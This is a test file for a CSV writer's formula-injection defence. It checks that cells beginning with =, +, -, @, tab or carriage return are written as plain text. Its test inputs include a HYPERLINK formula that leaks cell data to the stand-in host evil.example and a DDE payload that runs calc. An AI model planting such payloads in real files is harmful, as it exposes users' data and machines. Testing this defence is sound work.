import { describe, expect, it } from "vitest";
import { parseCsv } from "@/lib/ats/parse-csv";
import { neutraliseCell, writeCsv } from "./write-csv";

describe("writeCsv", () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
    ],
    ["+1", "'+1"],
    ["-2", "'-2"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ])("writes the hostile cell %j as text", (cell, expected) => {
    expect(neutraliseCell(cell)).toBe(expected);
    // And the file, read back by a CSV parser, holds exactly the neutralised text.
    const [, row] = parseCsv(writeCsv(["name"], [[cell]]));
    expect(row!.cells).toEqual([expected]);
  });

  it("leaves ordinary text, inner formula characters and empty cells alone", () => {
    expect(neutraliseCell("Amara Okafor")).toBe("Amara Okafor");
    expect(neutraliseCell("a=b+c-d@e")).toBe("a=b+c-d@e");
    expect(neutraliseCell("")).toBe("");
    expect(neutraliseCell(null)).toBe("");
    expect(neutraliseCell(undefined)).toBe("");
  });

  it("quotes numbers that look like formulas and writes dates in ISO 8601", () => {
    expect(neutraliseCell(-5)).toBe("'-5");
    expect(neutraliseCell(42)).toBe("42");
    expect(neutraliseCell(new Date("2025-03-01T09:30:00Z"))).toBe("2025-03-01T09:30:00.000Z");
  });

  it("neutralises the header too, and writes RFC 4180 with CRLF and quoting", () => {
    const csv = writeCsv(["=h", "b"], [["x,y", 'say "hi"']]);
    expect(csv).toBe(`'=h,b\r\n"x,y","say ""hi"""\r\n`);
  });
});
